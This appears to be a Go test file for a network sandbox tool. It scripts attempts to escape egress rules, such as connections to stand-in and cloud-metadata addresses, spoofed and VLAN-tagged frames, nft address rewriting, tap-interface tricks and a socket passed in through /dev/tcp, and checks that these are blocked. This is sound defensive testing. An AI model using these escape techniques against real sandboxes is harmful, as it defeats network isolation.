package main

import (
	"fmt"
	"strings"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"
)

func paramsOfURing() uintptr { return uintptr(unsafe.Pointer(&[32]uint64{})) }

// The attacks on egress rules. What got out is told by the network of the host, not by the attacker.

var egressAllowed = []string{"v1 tcp 192.0.2.53:80", "lo dns 127.0.0.1 www.example"}

// egressEverybody is an attack by addresses and names of all sorts.
const egressEverybody = `
everybody() {
	fetch http://www.example/ 2>&1 | head -1
	for to in 192.0.2.66:53 192.0.2.66:80 192.0.2.66:443 192.0.2.66:853 192.0.2.53:443 192.0.2.53:22 192.0.2.1:80 10.0.2.2:53 10.0.2.2:80 10.0.2.3:80 \
		192.0.0.2:53 192.0.0.3:53 192.0.0.100:80 127.0.0.1:53 198.18.0.1:443 198.18.0.99:80 169.254.169.254:80; do (tcp $to; udp $to) & done; wait
	ping -c1 -W2 192.0.2.66 2>&1 | grep -o -e filtered -e Filtered -e ' 0% packet loss' || :
	for name in secret.evil.example www.example.evil.test x.www.example wwww.example; do lookup $name >/dev/null 2>&1 && echo "found $name"; done
	echo end of everybody
}
export -f everybody
`

func TestAttackEgressAddresses(t *testing.T) {
	labs(t, func(t *testing.T, l *lab) {
		r := l.attackEgress(egressEverybody + `
			slirpctl up --allow www.example:80 -- bash -c everybody
			holder
			slirpctl up -d --name x --allow www.example:80 $target >/dev/null
			echo 'nameserver 10.0.2.3' >resolv; export -f everybody
			slirpctl exec x -- bash -c everybody
			inside bash -c 'tcp 192.0.2.66:80; udp 192.0.2.66:53'
			slirpctl egress log x --denied | head -3
			slirpctl down x`)
		if strings.Contains(r.out, "evil\n") || strings.Contains(r.out, "found") || strings.Contains(r.out, "0% packet loss") ||
			strings.Count(r.out, "it works") != 2 || strings.Count(r.out, "end of everybody") != 2 {
			t.Errorf("%s%s", r.out, r.err)
		}
		r.only(t, egressAllowed...)
		r.has(t, egressAllowed...)
		// The same, allowed.
		r = l.attackEgress(egressEverybody + `slirpctl up --egress log -- bash -c everybody`)
		r.has(t, "v1 tcp 192.0.2.66:80", "v1 tcp 192.0.2.53:443", "v1 udp 192.0.2.66:53", "lo dns 127.0.0.1 secret.evil.example")
		for _, s := range r.seen {
			if strings.HasPrefix(s, "lo ") && !strings.Contains(s, " dns ") && !strings.Contains(s, " 192.0.2.1:") {
				t.Errorf("the host's loopback was reached: %s", s)
			}
		}
	})
}

// egressFrameAttacks are frames to those who may not be reached.
func egressFrameAttacks() (all []string) {
	const guest4, guest6 = "10.0.2.100", "fd00::64"
	for _, proto := range []byte{unix.IPPROTO_TCP, unix.IPPROTO_UDP} {
		for _, dst := range []string{"192.0.2.66", "192.0.2.1", "127.0.0.1", "10.0.2.2", "192.0.0.2", "192.0.0.3", "192.0.0.100", "224.0.0.1", "255.255.255.255"} {
			for _, src := range []string{guest4, "10.0.2.2", "10.0.2.3", "10.0.2.255", "192.0.2.1", "192.0.0.100", "127.0.0.1", "0.0.0.0"} {
				all = append(all, testFrame{src: src, dst: dst, proto: proto, port: 80}.make()...)
			}
			f := testFrame{src: guest4, dst: dst, proto: proto, port: 443}
			for _, change := range []func(*testFrame){
				func(f *testFrame) { f.fragments = true },
				func(f *testFrame) { f.vlans = []uint16{unix.ETH_P_8021Q} },
				func(f *testFrame) { f.vlans = []uint16{unix.ETH_P_8021AD, unix.ETH_P_8021Q} },
				func(f *testFrame) { f.etherType = unix.ETH_P_IPV6 },
				func(f *testFrame) { f.options = []byte{131, 7, 4, 192, 0, 2, 66, 0} },
				func(f *testFrame) { f.options = []byte{137, 7, 4, 192, 0, 2, 66, 0}; f.dst = "192.0.2.53" },
			} {
				g := f
				change(&g)
				all = append(all, g.make()...)
			}
		}
		for _, dst := range []string{"::1", "::ffff:192.0.2.66", "::192.0.2.66", "fd00::2", "ff02::1", "2001:db8::1"} {
			all = append(all, testFrame{src: guest6, dst: dst, proto: proto, port: 80}.make()...)
		}
	}
	whole := testFrame{src: guest4, dst: "192.0.2.66", proto: unix.IPPROTO_UDP, port: 80}.make()[0]
	all = append(all, whole+strings.Repeat("00", 65000), whole[:60], whole[:28])
	return all
}

func TestAttackEgressFrames(t *testing.T) {
	labs(t, func(t *testing.T, l *lab) {
		frames := "egress-frames " + strings.Join(egressFrameAttacks(), " ")
		r := l.attackEgress(fmt.Sprintf(`
			cat >"$DIR/send" <<'E'
ip link set tap0 mtu 65521
%s
ip neigh flush all # the frames had a hardware address of their own
fetch http://www.example/ | head -1
E
			slirpctl up --allow www.example:80 -- bash "$DIR/send"
			holder; slirpctl up -d --name p --allow www.example:80 $target >/dev/null
			inside bash "$DIR/send" >/dev/null; slirpctl exec p -- fetch http://www.example/ | head -1
			slirpctl down p`, frames))
		r.only(t, egressAllowed...)
		if strings.Count(r.out, "it works") != 2 || strings.Contains(r.err, "send:") {
			t.Errorf("%s%s", r.out, r.err)
		}
		r = l.attackEgress(fmt.Sprintf(`
			cat >"$DIR/send" <<'E'
%s
E
			slirpctl up --allow '192.0.2.66:80/udp' --allow 192.0.2.66:80 -- bash "$DIR/send"`, frames))
		r.has(t, "v1 tcp 192.0.2.66:80", "v1 udp 192.0.2.66:80")
		r.only(t, "v1 tcp 192.0.2.66:80", "v1 udp 192.0.2.66:80")
	})
}

func TestAttackEgressRewritten(t *testing.T) {
	labs(t, func(t *testing.T, l *lab) {
		const attack = `
			cat >"$DIR/rewrite" <<'E'
nft 'table netdev attack {
	chain out { type filter hook egress device tap0 priority 0
		ip daddr 198.18.0.0/15 ip daddr set 192.0.2.66
		ip daddr 203.0.113.1 ip daddr set 192.0.2.66
	}
	chain in { type filter hook ingress device tap0 priority 0
		ip saddr 192.0.2.66 ip saddr set 203.0.113.1
	}
}' || echo no nft
timeout 3 fetch http://www.example/ 2>&1 | head -1 & tcp 203.0.113.1:80 & tcp 203.0.113.1:443 & udp 203.0.113.1:53 & wait
E
			slirpctl up %s -- bash "$DIR/rewrite"`
		r := l.attackEgress(fmt.Sprintf(attack, "--allow www.example:80 --allow 203.0.113.0/24:* --allow 203.0.113.0/24:*/udp"))
		r.only(t, egressAllowed...)
		if strings.Contains(r.out, "evil") || strings.Contains(r.out, "no nft") || strings.Count(r.out, "tcp 203.0.113.1:") != 2 || strings.Count(r.out, "refused") < 2 {
			t.Errorf("%s%s", r.out, r.err)
		}
		l.attackEgress(fmt.Sprintf(attack, "--egress log")).has(t, "v1 tcp 192.0.2.66:443", "v1 udp 192.0.2.66:53")
	})
}

// egressTap is what root inside may do to the interfaces of its own.
func egressTap() string {
	return fmt.Sprintf(`
evil() { tcp 192.0.2.66:80 & udp 192.0.2.66:53 & fetch http://www.example/ 2>&1 | head -1; wait; }
ip tuntap add dev tap0 mode tap && echo attached
ip tuntap add dev tap0 mode tap multi_queue && echo attached
ip link set tap0 down; ip link set tap0 up; ip route add default via 10.0.2.2
evil
ip addr add 192.0.2.1/24 dev tap0; ip addr add 10.0.2.2/24 dev tap0; evil; ip addr del 10.0.2.2/24 dev tap0; ip addr del 192.0.2.1/24 dev tap0
ip route add 192.0.2.66 dev tap0; ip neigh replace 192.0.2.66 lladdr 02:00:00:00:00:66 dev tap0; evil; ip route del 192.0.2.66
ip link set tap0 down; ip link set tap0 name eth5; ip link set eth5 up; ip route add default via 10.0.2.2; dev=eth5
evil
%s
ip neigh flush all # the frames had a hardware address of their own
evil
ip link add link eth5 name v5 type vlan id 5; ip link set v5 up; ip addr add 192.0.2.9/24 dev v5; evil; ip link del v5
ip tuntap add dev tap0 mode tap; ip link set tap0 up; ip addr add 192.0.2.8/24 dev tap0; tcp 192.0.2.66:80
ip link del tap0
ip link del eth5 && echo deleted
tcp 192.0.2.66:80
ip tuntap add dev tap0 mode tap; ip link set tap0 up; ip addr add 10.0.2.100/24 dev tap0; ip route add default via 10.0.2.2; tcp 192.0.2.66:80
echo end of tap
`, "egress-frames -dev $dev "+strings.Join(egressFrameAttacks(), " "))
}

// TestAttackEgressTap: root inside does what it likes with the interfaces of its own.
func TestAttackEgressTap(t *testing.T) {
	labs(t, func(t *testing.T, l *lab) {
		r := l.attackEgress(fmt.Sprintf(`
			cat >"$DIR/tap" <<'E'
%s
E
			holder; slirpctl up -d --name p --allow www.example:80 $target >/dev/null
			(slirpctl up --name x --allow www.example:80 -- bash "$DIR/tap" 2>&1; echo ended with $?) & one=$!
			inside bash "$DIR/tap" 2>&1; wait $one
			slirpctl down p`, egressTap()))
		r.only(t, egressAllowed...)
		if strings.Contains(r.out, "attached") || strings.Contains(r.out, "evil\n") || strings.Count(r.out, "end of tap") != 2 || strings.Count(r.out, "it works") < 3 {
			t.Errorf("%s%s", r.out, r.err)
		}
	})
}

func TestAttackEgressControl(t *testing.T) {
	labs(t, func(t *testing.T, l *lab) {
		r := l.attackEgress(`
			cat >"$DIR/control" <<'E'
for args in "add x 192.0.2.66:80" "set x *:*" "add own 192.0.2.66:80" "remove x 1"; do set -f; slirpctl egress $args 2>&1; set +f; done
umount "$STATE" 2>/dev/null && echo shown
for args in "add x 192.0.2.66:80" "set x *:*" "add own 192.0.2.66:80" "remove own 1"; do set -f; slirpctl egress $args 2>&1; set +f; done
slirpctl down x own 2>&1
tcp 192.0.2.66:80
fetch http://www.example/ 2>&1 | head -1
echo end of control
E
			holder
			slirpctl up -d --name x --allow www.example:80 $target >/dev/null
			slirpctl up --name own --allow www.example:80 -- bash "$DIR/control"
			inside bash "$DIR/control"
			slirpctl exec x -- bash "$DIR/control"
			slirpctl egress list x
			slirpctl down x`)
		r.only(t, egressAllowed...)
		if strings.Contains(r.out, "evil\n") || strings.Count(r.out, "end of control") != 3 || !strings.Contains(r.out, "shown") ||
			!strings.Contains(r.out, "1   allow   www.example:80/tcp\n") || strings.Count(r.out, "refuses this caller") < 15 {
			t.Errorf("%s%s", r.out, r.err)
		}
	})
}

func TestAttackEgressSockets(t *testing.T) {
	labs(t, func(t *testing.T, l *lab) {
		r := l.attackEgress(`
			exec 7<>/dev/tcp/192.0.2.66/443
			sockets # this machine's
			echo == inside
			slirpctl up --allow www.example:80 -- sockets
			slirpctl up --allow www.example:80 -- bash -c 'unshare --user --map-root-user sockets; echo stolen >&7' 2>&1
			slirpctl up --allow www.example:80 -- cat <&7; echo "stdin: $?"
			slirpctl up --allow www.example:80 -- echo stolen >&7; echo "stdout: $?"
			holder
			slirpctl up -d --name x --allow www.example:80 $target >/dev/null
			slirpctl exec x -- sockets
			slirpctl exec x -- cat <&7; echo "exec: $?"
			slirpctl down x`)
		here, inside, _ := strings.Cut(r.out, "== inside")
		if !strings.Contains(here, "has a socket: 7") {
			t.Errorf("this proves nothing: %s", here)
		}
		if strings.Contains(inside, "made ") || strings.Contains(inside, "has a socket") || strings.Contains(inside, "evil\n") || strings.Count(inside, "end of sockets") != 3 {
			t.Errorf("%s%s", r.out, r.err)
		}
		for _, want := range []string{"stdin: 125", "stdout: 125", "exec: 125", "7: Bad file descriptor"} {
			if !strings.Contains(inside, want) {
				t.Errorf("no %q: %s%s", want, r.out, r.err)
			}
		}
		r.only(t, "v1 tcp 192.0.2.66:443")
	})
}
